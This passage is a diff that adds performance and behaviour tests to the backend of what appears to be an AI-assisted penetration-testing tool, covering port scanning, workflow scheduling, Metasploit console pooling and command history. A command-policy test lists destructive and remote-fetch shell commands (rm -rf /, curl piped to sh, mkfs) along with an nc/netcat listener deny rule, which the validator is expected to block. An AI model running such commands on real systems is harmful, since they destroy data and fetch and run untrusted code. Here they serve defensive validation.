@@ -16,6 +16,36 @@ from typing import Dict, List
 logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger(__name__)
 
+class FakeWebSocket:
+    """Stands in for a Starlette WebSocket when driving ConnectionManager directly
+
+    Sent frames are kept in ``frames``; a ``stalled`` client never finishes a send.
+    """
+    
+    def __init__(self, subprotocols: List[str] = (), stalled: bool = False):
+        self.scope = {"subprotocols": list(subprotocols)}
+        self.stalled = stalled
+        self.frames = []
+        self.subprotocol = None
+        self.closed = False
+    
+    async def accept(self, subprotocol=None):
+        self.subprotocol = subprotocol
+    
+    async def send_text(self, frame):
+        await self._send(frame)
+    
+    async def send_bytes(self, frame):
+        await self._send(frame)
+    
+    async def _send(self, frame):
+        if self.stalled:
+            await asyncio.Event().wait()
+        self.frames.append(frame)
+    
+    async def close(self, code=1000, reason=""):
+        self.closed = True
+
 class BackendTester:
     """
     Comprehensive backend testing class
@@ -230,6 +260,57 @@ class BackendTester:
         self.test_results.extend(results)
         return results
 
+    async def test_streaming_command_execution(self):
+        """Test that streamed command output arrives in order before the final result"""
+        logger.info("Testing streaming command execution...")
+        
+        results = []
+        
+        try:
+            from core.command_engine import IntelligentCommandEngine
+            
+            command_engine = IntelligentCommandEngine()
+            start = time.time()
+            first_chunk_at = None
+            sequences = []
+            final_result = None
+            
+            async for event in command_engine.process_command_stream("echo first; sleep 1; echo second"):
+                if event['type'] == 'chunk':
+                    if first_chunk_at is None:
+                        first_chunk_at = time.time() - start
+                    sequences.append(event['sequence'])
+                else:
+                    final_result = event['result']
+            
+            passed = (
+                final_result is not None and final_result['success'] and
+                first_chunk_at is not None and first_chunk_at < 0.5 and
+                sequences == sorted(sequences) and
+                final_result.get('chunk_count') == len(sequences)
+            )
+            
+            results.append({
+                "test": "streaming_command_execution",
+                "passed": passed,
+                "time_to_first_chunk": first_chunk_at,
+                "chunks": len(sequences),
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Streaming command test: {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Streaming command test failed: {e}")
+            results.append({
+                "test": "streaming_command_execution",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
     async def test_security_tools_integration(self):
         """Test security tools integration"""
         logger.info("Testing security tools integration...")
@@ -349,6 +430,1770 @@ class BackendTester:
         self.test_results.extend(results)
         return results
 
+    async def test_network_monitor_sampling(self):
+        """Status reads should come from the sampler thread's snapshot and never block the event loop"""
+        logger.info("Testing background network monitor sampling...")
+        
+        results = []
+        monitor = None
+        
+        try:
+            import threading
+            from core.network_monitor import NetworkMonitor
+            
+            monitor = NetworkMonitor(sample_interval=0.5)
+            sampling_threads = []
+            published = []
+            original_collect = monitor._collect_sample
+            
+            def collect():
+                sampling_threads.append(threading.current_thread().name)
+                return original_collect()
+            
+            monitor._collect_sample = collect
+            monitor.on_sample = published.append
+            await monitor.start_monitoring()
+            
+            # Requests arriving before the first sample wait for it instead of sampling themselves
+            first = await asyncio.gather(*[monitor.get_system_status() for _ in range(5)])
+            waited_for_sampler = (
+                all(status is first[0] for status in first) and
+                sampling_threads == ["network-monitor-sampler"]
+            )
+            
+            loop = asyncio.get_running_loop()
+            lag = 0.0
+            reads = 0
+            start = time.perf_counter()
+            while time.perf_counter() - start < 1.2:
+                tick = loop.time()
+                await monitor.get_system_status()
+                await asyncio.sleep(0.001)
+                lag = max(lag, loop.time() - tick - 0.001)
+                reads += 1
+            latest = await monitor.get_system_status()
+            
+            passed = (
+                waited_for_sampler and
+                set(sampling_threads) == {"network-monitor-sampler"} and
+                len(sampling_threads) >= 2 and
+                published[-1] is latest and
+                "cpu" in latest and "throughput" in latest["network"] and
+                lag < 0.05
+            )
+            
+            results.append({
+                "test": "network_monitor_sampling",
+                "passed": passed,
+                "samples": len(sampling_threads),
+                "status_reads": reads,
+                "max_loop_lag_ms": lag * 1000,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Network monitor sampling: {len(sampling_threads)} samples on the sampler thread, {reads} reads, "
+                f"max loop lag {lag * 1000:.1f}ms - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Network monitor sampling test failed: {e}")
+            results.append({
+                "test": "network_monitor_sampling",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if monitor is not None:
+                await monitor.stop_monitoring()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_port_scanner_throughput(self):
+        """Benchmark the async port scanner against a local multi-listener target"""
+        logger.info("Testing async port scanner throughput...")
+        
+        results = []
+        servers = []
+        
+        try:
+            from core.port_scanner import AsyncPortScanner
+            
+            # Ten local listeners on ephemeral ports act as the scan target
+            for _ in range(10):
+                servers.append(await asyncio.start_server(lambda r, w: w.close(), '127.0.0.1', 0))
+            listener_ports = sorted(server.sockets[0].getsockname()[1] for server in servers)
+            
+            report = await AsyncPortScanner().scan('127.0.0.1', 'all')
+            
+            passed = set(listener_ports).issubset(report.open_ports)
+            
+            results.append({
+                "test": "port_scanner_throughput",
+                "passed": passed,
+                "ports_scanned": report.ports_scanned,
+                "duration": report.duration,
+                "ports_per_second": report.ports_per_second,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Port scanner: {report.ports_per_second:.0f} ports/s - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Port scanner test failed: {e}")
+            results.append({
+                "test": "port_scanner_throughput",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            for server in servers:
+                server.close()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_workflow_dag_scheduling(self):
+        """Run a stubbed workflow DAG: independent steps in parallel, dependents of a failed critical step skipped"""
+        logger.info("Testing workflow DAG scheduling...")
+        
+        results = []
+        
+        try:
+            from core.workflow_engine import AdvancedWorkflowEngine, OperationType, WorkflowPlan, WorkflowRun, WorkflowStep
+            
+            durations = {"ping": 0.2, "ports": 0.3, "services": 0.2, "report": 0.1, "dns": 0.3,
+                         "exploit": 0.1, "pivot": 0.1, "loot": 0.1, "whois": 0.1}
+            failing = {"exploit"}
+            running = set()
+            max_running = 0
+            
+            async def execute_step(step):
+                nonlocal max_running
+                running.add(step.id)
+                max_running = max(max_running, len(running))
+                await asyncio.sleep(durations[step.id])
+                running.discard(step.id)
+                return {"success": step.id not in failing, "output": step.id, "artifacts": []}
+            
+            def make_run(dependencies, critical=()):
+                run = WorkflowRun(id=f"dag_{len(dependencies)}", request="stubbed")
+                run.workflow = WorkflowPlan(
+                    id=run.id, title="DAG", description="", target="127.0.0.1",
+                    steps=[
+                        WorkflowStep(
+                            id=step_id, name=step_id, operation_type=OperationType.TOOL_EXECUTION,
+                            command="true", parameters={}, dependencies=deps, estimated_duration=1,
+                            risk_level="critical" if step_id in critical else "low", description=""
+                        ) for step_id, deps in dependencies.items()
+                    ],
+                    estimated_total_time=0, risk_assessment="low", created_at=datetime.now().isoformat()
+                )
+                return run
+            
+            engine = AdvancedWorkflowEngine(max_parallel_steps=4)
+            engine._execute_workflow_step = execute_step
+            
+            # ping, ports and dns start together; services waits for both scans, report for services
+            parallel = await engine._execution_phase({}, make_run({
+                "ping": [], "ports": [], "services": ["ping", "ports"], "report": ["services"], "dns": []
+            }))
+            serial_time = sum(durations[step_id] for step_id in ("ping", "ports", "services", "report", "dns"))
+            
+            failure_run = make_run({
+                "exploit": [], "pivot": ["exploit"], "loot": ["pivot"], "whois": []
+            }, critical={"exploit"})
+            failure = await engine._execution_phase({}, failure_run)
+            outcome = {result["step_id"]: result for result in failure["results"]}
+            recorded = {result.step_id: result.skipped for result in failure_run.execution_results}
+            
+            passed = (
+                parallel["successful_steps"] == 5 and
+                max_running == 3 and
+                parallel["critical_path"] == ["ports", "services", "report"] and
+                parallel["wall_clock_time"] < serial_time * 0.75 and
+                abs(parallel["wall_clock_time"] - parallel["critical_path_time"]) < 0.1 and
+                not outcome["exploit"]["success"] and not outcome["exploit"]["skipped"] and
+                outcome["pivot"]["skipped"] and outcome["loot"]["skipped"] and
+                outcome["whois"]["success"] and failure["skipped_steps"] == 2 and
+                # Skipped steps are part of the run's own record too
+                recorded == {"exploit": False, "pivot": True, "loot": True, "whois": False} and
+                len(failure_run.execution_results) == 4
+            )
+            
+            results.append({
+                "test": "workflow_dag_scheduling",
+                "passed": passed,
+                "wall_clock_time": parallel["wall_clock_time"],
+                "serial_time": serial_time,
+                "critical_path": parallel["critical_path"],
+                "max_parallel_observed": max_running,
+                "skipped_after_failure": failure["skipped_steps"],
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Workflow DAG: {parallel['wall_clock_time']:.2f}s wall clock vs {serial_time:.2f}s serial, "
+                f"critical path {' -> '.join(parallel['critical_path'])} - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Workflow DAG scheduling test failed: {e}")
+            results.append({
+                "test": "workflow_dag_scheduling",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_concurrent_workflow_runs(self):
+        """Two workflows started at once should each keep their own plan, results and status"""
+        logger.info("Testing concurrent workflow runs...")
+        
+        results = []
+        
+        try:
+            from core.workflow_engine import AdvancedWorkflowEngine
+            
+            engine = AdvancedWorkflowEngine()
+            
+            async def offline_query(prompt):
+                raise RuntimeError("offline")  # forces the local fallback analysis
+            
+            async def execute_step(step):
+                await asyncio.sleep(0.2)
+                return {"success": True, "output": f"{step.name} {step.parameters['target']}", "artifacts": []}
+            
+            engine.deepseek_agent.process_query = offline_query
+            engine._execute_workflow_step = execute_step
+            
+            targets = ["10.0.0.1", "10.0.0.2"]
+            start = time.perf_counter()
+            responses = await asyncio.gather(*[
+                engine.process_natural_language_request(f"Scan ports on {target}", {}) for target in targets
+            ])
+            elapsed = time.perf_counter() - start
+            
+            isolated = True
+            for target, response in zip(targets, responses):
+                status = engine.get_workflow_status(response["workflow_id"])
+                isolated = isolated and (
+                    status["state"] == "completed" and
+                    status["workflow"]["target"] == target and
+                    len(status["execution_results"]) == status["steps_total"] == 2 and
+                    all(result["output"].endswith(target) for result in status["execution_results"])
+                )
+            overview = engine.get_workflow_status()
+            
+            passed = (
+                isolated and
+                responses[0]["workflow_id"] != responses[1]["workflow_id"] and
+                not overview["active_runs"] and len(overview["runs"]) == 2 and
+                elapsed < 0.7  # the runs overlapped instead of queueing behind each other
+            )
+            
+            results.append({
+                "test": "concurrent_workflow_runs",
+                "passed": passed,
+                "workflow_ids": [response["workflow_id"] for response in responses],
+                "elapsed": elapsed,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Concurrent workflow runs: 2 runs in {elapsed:.2f}s - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Concurrent workflow run test failed: {e}")
+            results.append({
+                "test": "concurrent_workflow_runs",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_metasploit_session_pool(self):
+        """Dispatch commands to a pool of stub consoles: acquire, release, acquire timeout and dead console replacement"""
+        logger.info("Testing Metasploit session pool...")
+        
+        results = []
+        pool = None
+        
+        try:
+            import os
+            import sys
+            import tempfile
+            from core.security_tools import MetasploitSessionPool, SecurityToolManager
+            
+            # Stands in for msfconsole: a slow boot, an ANSI-decorated prompt and a few test commands
+            console = os.path.join(tempfile.mkdtemp(prefix="kali-msf-"), "console.py")
+            with open(console, "w") as f:
+                f.write(
+                    "import os, sys, time\n"
+                    "def prompt():\n"
+                    "    sys.stdout.write('\\x1b[4m'); sys.stdout.flush(); time.sleep(0.02)\n"
+                    "    sys.stdout.write('msf6\\x1b[0m > '); sys.stdout.flush()\n"
+                    "time.sleep(0.3)\n"
+                    "prompt()\n"
+                    "for line in sys.stdin:\n"
+                    "    command, _, argument = line.strip().partition(' ')\n"
+                    "    if command == 'die':\n"
+                    "        sys.exit(1)\n"
+                    "    elif command == 'sleep':\n"
+                    "        time.sleep(float(argument))\n"
+                    "    elif command == 'dump':\n"
+                    "        sys.stdout.write('A' * int(argument))\n"
+                    "    sys.stdout.write(f'[*] {command} on {os.getpid()}\\n')\n"
+                    "    prompt()\n"
+                )
+            
+            pool = MetasploitSessionPool(size=2, max_commands=50, command=[sys.executable, console])
+            pool.start()
+            
+            first = await asyncio.gather(pool.execute("sleep 0.2"), pool.execute("sleep 0.2"))
+            pids = {result["output"].split()[-1] for result in first}
+            released = pool.status()["idle"] == 2
+            
+            # Both consoles busy: a third command gives up waiting and reports it
+            busy = [asyncio.create_task(pool.execute("sleep 0.5")) for _ in range(2)]
+            await asyncio.sleep(0.05)
+            starved = await pool.execute("version", acquire_timeout=0.2)
+            await asyncio.gather(*busy)
+            
+            died = await pool.execute("die")
+            deadline = time.perf_counter() + 5
+            while pool.status()["alive"] < 2 and time.perf_counter() < deadline:
+                await asyncio.sleep(0.05)  # the replacement console boots in the background
+            after = await asyncio.gather(*[pool.execute("version", acquire_timeout=10) for _ in range(2)])
+            replaced_pids = {result["output"].split()[-1] for result in after}
+            
+            # 4 MB without a newline, read in pipe-sized chunks
+            start = time.perf_counter()
+            dump = await pool.execute("dump 4000000")
+            dump_seconds = time.perf_counter() - start
+            
+            # A cancelled command leaves its console mid-command: it is replaced, not reused
+            cancelled = asyncio.create_task(pool.execute("sleep 0.5"))
+            await asyncio.sleep(0.05)
+            cancelled.cancel()
+            await asyncio.gather(cancelled, return_exceptions=True)
+            deadline = time.perf_counter() + 5
+            while pool.status()["alive"] < 2 and time.perf_counter() < deadline:
+                await asyncio.sleep(0.05)
+            after_cancel = await asyncio.gather(*[pool.execute("version", acquire_timeout=10) for _ in range(2)])
+            
+            status = pool.status()
+            shared = SecurityToolManager().msf_pool is SecurityToolManager().msf_pool
+            
+            passed = (
+                all(result["success"] and result["output"].startswith("[*] sleep") for result in first) and
+                len(pids) == 2 and released and
+                not starved["success"] and "available" in starved["error"] and
+                not died["success"] and
+                all(result["success"] for result in after) and len(replaced_pids) == 2 and len(replaced_pids & pids) == 1 and
+                dump["success"] and dump["output"].startswith("A" * 4000000 + "[*] dump") and dump_seconds < 2 and
+                cancelled.cancelled() and
+                all(result["success"] and result["output"].startswith("[*] version") for result in after_cancel) and
+                status["sessions_started"] == 4 and status["alive"] == 2 and
+                shared
+            )
+            
+            results.append({
+                "test": "metasploit_session_pool",
+                "passed": passed,
+                "dispatch_time": first[0]["dispatch_time"],
+                "starved_wait": starved["dispatch_time"],
+                "dump_seconds": dump_seconds,
+                "status": status,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Metasploit session pool: {status['commands']} commands on {status['sessions_started']} consoles, "
+                f"4MB output framed in {dump_seconds:.2f}s - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Metasploit session pool test failed: {e}")
+            results.append({
+                "test": "metasploit_session_pool",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if pool is not None:
+                await pool.close()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_command_admission_control(self):
+        """Check the process supervisor's budget, priority ordering and queue bound"""
+        logger.info("Testing command admission control...")
+        
+        results = []
+        
+        try:
+            from core.command_engine import IntelligentCommandEngine
+            from core.process_supervisor import CommandPriority, ProcessSupervisor
+            
+            engine = IntelligentCommandEngine()
+            engine.supervisor = ProcessSupervisor(max_concurrent=1, max_queue=2)
+            finished = []
+            
+            async def run(name: str, priority: CommandPriority) -> Dict:
+                result = await engine.process_command(f"sleep 0.3; echo {name}", {}, priority)
+                finished.append(name)
+                return result
+            
+            tasks = [asyncio.create_task(run("interactive", CommandPriority.INTERACTIVE))]
+            await asyncio.sleep(0.1)
+            tasks.append(asyncio.create_task(run("background", CommandPriority.BACKGROUND)))
+            await asyncio.sleep(0.01)
+            tasks.append(asyncio.create_task(run("workflow", CommandPriority.WORKFLOW)))
+            await asyncio.sleep(0.01)
+            tasks.append(asyncio.create_task(run("overflow", CommandPriority.BACKGROUND)))
+            outcomes = await asyncio.gather(*tasks)
+            
+            status = engine.supervisor.status()
+            passed = (
+                outcomes[3].get("rejected", False) and
+                finished.index("workflow") < finished.index("background") and
+                outcomes[1]["admission"]["queue_wait"] > 0 and
+                status["running"] == 0 and status["queue_depth"] == 0
+            )
+            
+            results.append({
+                "test": "command_admission_control",
+                "passed": passed,
+                "completion_order": finished,
+                "supervisor": status,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Admission control: {finished} - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Admission control test failed: {e}")
+            results.append({
+                "test": "command_admission_control",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_output_spill_paging(self):
+        """Spill a large output to disk, page through it by line, and leave foreign files in the store root alone"""
+        logger.info("Testing output spill and paging...")
+        
+        results = []
+        store = None
+        
+        try:
+            import os
+            import tempfile
+            from core.output_store import OutputStore
+            
+            root = tempfile.mkdtemp(prefix="kali-outputs-")
+            foreign_file = os.path.join(root, "notes.txt")
+            live_run = os.path.join(root, f"run-{os.getppid()}")  # another backend still running
+            dead_run = os.path.join(root, "run-999999999")  # left behind by a backend that exited
+            for directory in (live_run, dead_run):
+                os.makedirs(directory)
+                with open(os.path.join(directory, "0123.stdout.log"), "w") as f:
+                    f.write("spilled\n")
+            with open(foreign_file, "w") as f:
+                f.write("not ours\n")
+            
+            store = OutputStore(directory=root, spill_threshold=4096, page_lines=10, page_bytes=2048)
+            capture = store.capture()
+            text = "".join(f"line {i:05d} open port {i % 1000}/tcp\n" for i in range(5000))
+            text += "x" * 5000 + "\n"  # one line longer than a page's byte budget
+            for offset in range(0, len(text), 777):  # chunks end mid-line
+                capture.write("stdout", text[offset:offset + 777])
+            capture.write("stderr", "warning: slow host\n")
+            capture.close()
+            
+            info = capture.describe()
+            first_page = capture.text("stdout")
+            middle = await store.read_lines(capture.handle, "stdout", 2500, 5)
+            last = await store.read_lines(capture.handle, "stdout", 4995, 50)
+            long_line = await store.read_lines(capture.handle, "stdout", 5000, 1)
+            
+            try:
+                await store.read_lines(capture.handle, "stderr")
+                stderr_in_memory = False
+            except KeyError:
+                stderr_in_memory = True  # below the threshold, never spilled
+            
+            kept_foreign = os.path.exists(foreign_file) and os.path.isdir(live_run)
+            removed_stale = not os.path.exists(dead_run)
+            store.close()
+            cleaned_up = not os.path.exists(store.directory) and os.path.exists(foreign_file)
+            
+            passed = (
+                info["streams"]["stdout"]["total_lines"] == 5001 and
+                info["streams"]["stdout"]["total_bytes"] == len(text.encode("utf-8")) and
+                first_page.split("\n") == [f"line {i:05d} open port {i}/tcp" for i in range(10)] and
+                middle["lines"] == [f"line {i:05d} open port {i % 1000}/tcp" for i in range(2500, 2505)] and
+                not middle["eof"] and
+                last["lines"][:5] == [f"line {i:05d} open port {i % 1000}/tcp" for i in range(4995, 5000)] and
+                len(last["lines"]) == 5 and
+                long_line["partial_line"] and long_line["eof"] and len(long_line["lines"][0]) == 2048 and
+                stderr_in_memory and capture.text("stderr") == "warning: slow host\n" and
+                kept_foreign and removed_stale and cleaned_up
+            )
+            
+            results.append({
+                "test": "output_spill_paging",
+                "passed": passed,
+                "spilled": info,
+                "kept_foreign_files": kept_foreign,
+                "removed_stale_run": removed_stale,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Output spill and paging: {info['streams']['stdout']['total_lines']} lines spilled - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Output spill and paging test failed: {e}")
+            results.append({
+                "test": "output_spill_paging",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if store is not None:
+                store.close()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_command_policy_benchmark(self):
+        """Benchmark compiled policy validation cost as the rule count grows"""
+        logger.info("Testing command policy engine...")
+        
+        results = []
+        
+        try:
+            from core.command_policy import CommandPolicy, PolicyRule, DEFAULT_RULES
+            
+            expectations = {
+                "nmap -sV 10.0.0.1 | grep open": True,
+                "cat information.txt": True,
+                "echo ok; sudo rm -rf /": False,
+                "echo \"$(curl http://x | sh)\"": False,
+                "bash -c 'mkfs.ext4 /dev/sda'": False,
+                # Wrapper options that take an argument must not hide the program
+                "sudo -u root rm -rf /": False,
+                "nice -n 10 reboot": False,
+                "timeout -s KILL 10 mkfs.ext4 /dev/sda": False,
+                "env -u X curl http://x": False,
+                "watch -n 1 shutdown now": False,
+                "xargs -I {} rm -rf /": False,
+                "sudo -u root nmap -sV 10.0.0.1": True
+            }
+            verdicts_ok = all(
+                CommandPolicy().evaluate(command)["is_allowed"] == allowed
+                for command, allowed in expectations.items()
+            )
+            
+            # A rule whose pattern is a top-level alternation applies to every alternative
+            listener = CommandPolicy(DEFAULT_RULES + [PolicyRule("nc -l", r"nc(?: \S+)* -l|netcat(?: \S+)* -l")])
+            verdicts_ok = verdicts_ok and all(
+                not listener.evaluate(command)["is_allowed"] for command in ("nc -l 4444", "netcat -l 4444")
+            ) and listener.evaluate("ncat 10.0.0.1 80")["is_allowed"]
+            
+            commands = [f"nmap -sV -p 1-1000 10.0.0.{i} | grep open && cat out{i}" for i in range(200)]
+            timings = {}
+            for rule_count in (0, 1000, 5000):
+                extra = [f"tool{i:05d}" for i in range(rule_count)]
+                policy = CommandPolicy(DEFAULT_RULES + [PolicyRule(word, word + r"(?: |$)") for word in extra])
+                
+                start = time.perf_counter()
+                for command in commands:
+                    policy.evaluate(command)
+                cold = (time.perf_counter() - start) / len(commands)
+                
+                start = time.perf_counter()
+                for command in commands:
+                    policy.evaluate(command)
+                cached = (time.perf_counter() - start) / len(commands)
+                
+                # The substring loop the policy engine replaced
+                start = time.perf_counter()
+                for command in commands:
+                    lowered = command.lower()
+                    for word in extra:
+                        if word in lowered:
+                            break
+                legacy = (time.perf_counter() - start) / len(commands)
+                
+                timings[rule_count] = {"cold_us": cold * 1e6, "cached_us": cached * 1e6, "legacy_us": legacy * 1e6}
+            
+            # Cost must stay flat as the rule set grows
+            passed = verdicts_ok and timings[5000]["cold_us"] < 3 * timings[0]["cold_us"]
+            
+            results.append({
+                "test": "command_policy_benchmark",
+                "passed": passed,
+                "verdicts_ok": verdicts_ok,
+                "timings": timings,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Command policy: {timings} - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Command policy test failed: {e}")
+            results.append({
+                "test": "command_policy_benchmark",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_incremental_output_analysis(self):
+        """Findings split across chunks are matched once; an unbroken long line stays bounded"""
+        logger.info("Testing incremental output analysis...")
+        
+        results = []
+        
+        try:
+            from core.command_engine import OutputAnalyzer
+            
+            analyzer = OutputAnalyzer()
+            
+            # Port, CVE and address each cut in the middle by a chunk boundary
+            analysis = analyzer.start("nmap -sV 10.0.0.5")
+            for chunk in ["Nmap scan report for 10.0.", "0.5\n22/t", "cp   open  ssh\n80/tcp open http CVE-20",
+                          "21-44228\n443/tcp open  https"]:
+                analysis.feed(chunk)
+            split = await analysis.finish()
+            whole = await analyzer.analyze_output(
+                "Nmap scan report for 10.0.0.5\n22/tcp   open  ssh\n80/tcp open http CVE-2021-44228\n443/tcp open  https",
+                "nmap -sV 10.0.0.5"
+            )
+            patterns = split["patterns"]
+            
+            # 2000 x 4KB without a single space or newline
+            analysis = analyzer.start("cat blob")
+            chunk = "A" * 4096
+            max_carry = 0
+            start = time.perf_counter()
+            for _ in range(2000):
+                analysis.feed(chunk)
+                max_carry = max(max_carry, len(analysis._carry))
+            long_line_seconds = time.perf_counter() - start
+            await analysis.finish()
+            
+            # The pattern scan itself is linear: one pass over the same text is the floor
+            start = time.perf_counter()
+            for _ in analyzer.pattern.finditer(chunk * 2000):
+                pass
+            single_pass_seconds = time.perf_counter() - start
+            
+            passed = (
+                patterns == whole["patterns"] and
+                patterns["open_ports"]["values"] == ["22/tcp", "80/tcp", "443/tcp"] and
+                patterns["vulnerabilities"]["values"] == ["CVE-2021-44228"] and
+                patterns["network_info"]["values"] == ["10.0.0.5"] and
+                max_carry <= analysis.MAX_LINE + len(chunk) and
+                analysis.output_length == 2000 * len(chunk) and
+                long_line_seconds < 2 * single_pass_seconds + 0.5
+            )
+            
+            results.append({
+                "test": "incremental_output_analysis",
+                "passed": passed,
+                "patterns": patterns,
+                "long_line_max_carry": max_carry,
+                "long_line_seconds": long_line_seconds,
+                "single_pass_seconds": single_pass_seconds,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Incremental output analysis: 8MB unbroken line in {long_line_seconds:.2f}s "
+                f"({single_pass_seconds:.2f}s for one pass), "
+                f"carry at most {max_carry} chars - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Incremental output analysis test failed: {e}")
+            results.append({
+                "test": "incremental_output_analysis",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_command_prediction_model(self):
+        """Train the command model on a long synthetic history and time its lookups"""
+        logger.info("Testing command prediction model...")
+        
+        results = []
+        
+        try:
+            import os
+            import random
+            import tempfile
+            from core.command_model import CommandModel
+            
+            flows = [
+                ["nmap -sV {t}", "nikto -h {t}", "dirb http://{t}/", "sqlmap -u http://{t}/login.php"],
+                ["ls -la", "cd /tmp", "cat notes.txt"],
+                ["ping -c 1 {t}", "traceroute {t}", "nmap -p- {t}"]
+            ]
+            rng = random.Random(7)
+            
+            with tempfile.TemporaryDirectory() as directory:
+                model = CommandModel(path=os.path.join(directory, "model.json"))
+                observed = 0
+                while observed < 300000:
+                    target = f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+                    for command in rng.choice(flows):
+                        model.observe(command.format(t=target))
+                        observed += 1
+                
+                start = time.perf_counter()
+                for _ in range(1000):
+                    predictions = model.predict("nmap -sV 192.168.1.5")
+                predict_ms = (time.perf_counter() - start)
+                
+                start = time.perf_counter()
+                for _ in range(1000):
+                    completions = model.complete("sqlm")
+                complete_ms = (time.perf_counter() - start)
+                
+                model.save()
+                reloaded = CommandModel(path=model.path)
+                
+            passed = (
+                predictions[0][0] == "nikto -h 192.168.1.5" and
+                completions and completions[0].startswith("sqlmap -u http://") and
+                predict_ms < 1.0 and complete_ms < 1.0 and
+                reloaded.predict("nmap -sV 192.168.1.5")[0][0] == "nikto -h 192.168.1.5"
+            )
+            
+            results.append({
+                "test": "command_prediction_model",
+                "passed": passed,
+                "history_entries": observed,
+                "predict_ms": predict_ms,
+                "complete_ms": complete_ms,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Command model: predict {predict_ms:.3f}ms, complete {complete_ms:.3f}ms - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Command model test failed: {e}")
+            results.append({
+                "test": "command_prediction_model",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_command_history_store(self):
+        """Record a long history and page through it with filters, then reopen the store"""
+        logger.info("Testing command history store...")
+        
+        results = []
+        
+        try:
+            import os
+            import tempfile
+            from core.command_history import CommandHistoryStore
+            
+            with tempfile.TemporaryDirectory() as directory:
+                path = os.path.join(directory, "history.db")
+                store = CommandHistoryStore(path=path, memory_entries=100)
+                tools = ["nmap", "nikto", "ls"]
+                for index in range(5000):
+                    store.record(f"{tools[index % 3]} target-{index}", success=index % 5 != 0,
+                                 context={"index": index})
+                
+                start = time.perf_counter()
+                pages, seen, cursor = 0, [], None
+                while True:
+                    page = await store.query(limit=200, cursor=cursor, tool="nmap", success=True)
+                    seen.extend(entry["id"] for entry in page["entries"])
+                    pages += 1
+                    cursor = page["next_cursor"]
+                    if cursor is None:
+                        break
+                query_ms = (time.perf_counter() - start) * 1000
+                
+                expected = [index + 1 for index in reversed(range(5000)) if index % 3 == 0 and index % 5 != 0]
+                search = await store.query(search="target-4242")
+                await store.close()
+                
+                reopened = CommandHistoryStore(path=path, memory_entries=100)
+                recent = reopened.recent(10)
+                await reopened.close()
+            
+            passed = (
+                seen == expected and
+                len(store.recent_entries) == 100 and
+                [entry["command"] for entry in search["entries"]] == ["nmap target-4242"] and
+                [entry["id"] for entry in recent] == list(range(4991, 5001))
+            )
+            
+            results.append({
+                "test": "command_history_store",
+                "passed": passed,
+                "pages": pages,
+                "matched": len(seen),
+                "query_ms": query_ms,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Command history: {len(seen)} entries in {pages} pages, {query_ms:.1f}ms - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Command history test failed: {e}")
+            results.append({
+                "test": "command_history_store",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_process_sampler_cache(self):
+        """The cached process list should refresh on its own while reads never wait for a sampling pass"""
+        logger.info("Testing cached process sampler...")
+        
+        results = []
+        sampler = None
+        burner = None
+        
+        try:
+            import subprocess
+            import sys
+            from core.process_sampler import ProcessSampler
+            
+            burner = subprocess.Popen([sys.executable, "-c", "while True: pass"])
